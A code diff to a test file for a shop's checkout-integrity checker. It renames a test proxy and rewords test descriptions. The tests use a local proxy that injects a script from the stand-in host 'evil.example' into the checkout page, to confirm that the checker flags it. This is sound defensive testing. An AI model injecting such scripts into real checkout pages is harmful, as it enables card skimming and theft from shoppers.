@@ -1,4 +1,4 @@
-// `npm run check-checkout` as an operator meets it: all as in the inventory, or each difference and an exit with 1.
+// `npm run check-checkout` for an operator: everything matches the inventory, or each difference is listed and the exit code is 1.
 import { execFile } from 'node:child_process'
 import { mkdtemp, rm } from 'node:fs/promises'
 import { createServer, type Server } from 'node:http'
@@ -14,14 +14,14 @@ import { openTestShop, type TestShop } from '#tests/support/shop.ts'
 let t: TestShop
 let origin: string
 let data: string
-/** Something in front of the shop that adds a script to the page. */
-let meddler: Server
+/** A proxy in front of the shop that adds a script to the page. */
+let injectingProxy: Server
 beforeAll(async () => {
   t = await openTestShop({}, { pages: 'build' })
   await t.app.listen({ port: 0, host: '127.0.0.1' })
   origin = originOf(t.app.server)
   data = await mkdtemp(join(tmpdir(), 'check-checkout-'))
-  meddler = createServer(async ({ url = '' }, response) => {
+  injectingProxy = createServer(async ({ url = '' }, response) => {
     const answer = await fetch(origin + url)
     const text = await answer.text()
     const headers = Object.fromEntries([...answer.headers].filter(([name]) => /policy|options/.test(name)))
@@ -30,10 +30,10 @@ beforeAll(async () => {
       url === pages.checkout ? text.replace('</head>', '<script src="//evil.example/a.js"></script></head>') : text,
     )
   })
-  await new Promise<void>((resolve) => meddler.listen(0, '127.0.0.1', resolve))
+  await new Promise<void>((resolve) => injectingProxy.listen(0, '127.0.0.1', resolve))
 })
 afterAll(async () => {
-  meddler.close()
+  injectingProxy.close()
   await t.close()
   await rm(data, { recursive: true, force: true })
 })
@@ -53,20 +53,20 @@ async function check(...given: string[]): Promise<{ code: number; text: string }
   })
 }
 
-it('says that all is as in the inventory, and ends well', async () => {
+it('a page that matches the inventory is reported, with exit code 0', async () => {
   const { code, text } = await check(origin)
   expect(text).toMatch(/^All as in the inventory: headers, scripts of the page, \d{2,} files\.\n$/)
   expect(code).toBe(0)
 })
 
-it('security 70: names a script that something in front of the shop has added, and ends with 1', async () => {
-  const { code, text } = await check(originOf(meddler))
+it('security 70: a script added by a proxy is named, with exit code 1', async () => {
+  const { code, text } = await check(originOf(injectingProxy))
   expect(text).toContain(words.strange('//evil.example/a.js'))
   expect(text).toContain(words.some(1))
   expect(code).toBe(1)
 })
 
-it('says in a sentence when nobody answers, or when it is asked for something else', async () => {
+it('a missing answer and wrong arguments are explained in a sentence', async () => {
   const away = await check('http://127.0.0.1:1')
   expect([away.code, away.text.startsWith('http://127.0.0.1:1 doesn’t answer: ')]).toEqual([1, true])
   expect(await check('no address')).toEqual({ code: 1, text: `${words.usage}\n` })
